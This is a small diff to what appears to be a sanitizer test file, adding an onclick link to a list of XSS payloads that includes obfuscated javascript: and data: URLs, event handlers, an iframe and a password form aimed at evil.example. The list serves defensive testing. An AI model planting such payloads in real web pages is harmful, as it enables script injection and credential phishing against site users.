@@ -11,6 +11,7 @@ ATTACKS = [
     "<a href=' java\tscript:alert(1)'>x</a>",
     "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
     "<p onclick='alert(1)' style='position:fixed'>x</p>",
+    "<a href='/page' onclick='alert(1)'>x</a>",
     "<iframe src='https://evil.example'></iframe>",
     "<form action='https://evil.example'><input name=password></form>",
     "<style>body{display:none}</style>",
